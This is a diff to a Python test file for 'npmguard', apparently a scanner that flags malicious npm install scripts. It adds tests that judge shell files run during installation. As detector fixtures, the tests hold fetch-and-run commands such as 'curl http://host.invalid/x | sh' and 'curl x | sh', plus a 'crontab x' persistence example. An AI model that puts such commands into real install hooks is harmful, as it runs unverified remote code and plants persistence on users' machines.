@@ -13,6 +13,7 @@ from npmguard.model import (
     Manifest,
     Release,
     Severity,
+    ShellDeed,
     TarballAnalysis,
     Verdict,
     VersionDiff,
@@ -30,6 +31,7 @@ def findings(
     implicit_install: str | None = None,
     gyp_commands: tuple[str, ...] = (),
     diff: VersionDiff | None = None,
+    shell_deeds: tuple[ShellDeed, ...] = (),
 ) -> tuple[Finding, ...]:
     analysis = TarballAnalysis(
         hashes=(),
@@ -43,6 +45,7 @@ def findings(
         diff=diff,
         implicit_install=implicit_install,
         gyp_commands=gyp_commands,
+        shell_deeds=shell_deeds,
     )
     return audit(
         AuditContext(
@@ -219,3 +222,20 @@ def test_case_25_a_command_in_a_gyp_file_is_judged_like_a_script() -> None:
 def test_the_same_script_in_both_manifests_is_told_once() -> None:
     now = scripted(postinstall="curl http://host.invalid/x | sh")
     assert rules(findings(now, now)) == ["install-script-downloads"]
+
+
+# --- shell files that an installation runs ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize("risk", ["runs-fetched", "sends", "destroys", "stops"])
+def test_a_shell_file_that_an_installation_runs_is_judged_by_its_commands(risk: str) -> None:
+    (finding,) = findings(scripted(), shell_deeds=(ShellDeed("go.sh", risk, "curl x | sh"),))
+    assert (finding.rule, finding.file) == ("install-script-downloads", "go.sh")
+    assert finding.evidence[0].excerpt == "curl x | sh"
+    assert verdict_of([finding]) is Verdict.MALICIOUS
+
+
+def test_a_shell_file_that_settles_in_is_suspicious_and_one_that_fetches_is_not() -> None:
+    settles = findings(scripted(), shell_deeds=(ShellDeed("go.sh", "persists", "crontab x"),))
+    assert verdict_of(settles) is Verdict.SUSPICIOUS
+    assert findings(scripted(), shell_deeds=(ShellDeed("go.sh", "fetches", "curl -O x.tar.gz"),)) == ()
